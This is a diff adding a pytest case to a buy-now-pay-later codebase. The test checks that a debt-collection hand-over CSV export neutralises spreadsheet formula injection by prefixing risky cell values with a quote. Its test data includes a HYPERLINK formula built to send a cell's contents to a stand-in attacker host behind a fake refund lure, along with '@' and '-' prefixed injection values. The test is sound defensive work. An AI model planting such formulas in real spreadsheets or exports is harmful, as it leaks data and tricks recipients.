@@ -66,6 +66,29 @@ def test_the_hand_over_is_exported_once_with_what_the_agency_needs(api, services
     assert "0 hand-over(s)" in second.output and list(csv.DictReader(out.open())) == []
 
 
+def test_the_hand_over_csv_is_safe_to_open_in_a_spreadsheet(api, services, tmp_path, monkeypatch):
+    import csv
+
+    from click.testing import CliRunner
+
+    from bnpl.cli import main
+    from tests import factories
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Claim your refund")'
+    inv = ship(api, consumer={**factories.consumer(), "name": formula},
+               billing_address={**factories.address(), "street": "@SUM(1+1)", "city": "-Utrecht+1"})
+    due = date.fromisoformat(inv["due_date"])
+    for day in range(0, 80):
+        daily(services, due + timedelta(days=day))
+    monkeypatch.setattr("bnpl.cli._services", lambda: services)
+    out = tmp_path / "handover.csv"
+    assert CliRunner().invoke(main, ["dunning", "export-handovers", "--test", "-o", str(out)]).exit_code == 0
+    [row] = list(csv.DictReader(out.open()))
+    assert row["name"] == "'" + formula
+    assert row["street"] == "'@SUM(1+1)" and row["city"] == "'-Utrecht+1"
+    assert int(row["balance"]) > 0  # numbers stay numbers
+
+
 def _to_costs(api, services, **order):
     inv = ship(api, **order) if order else ship(api)
     due = date.fromisoformat(inv["due_date"])
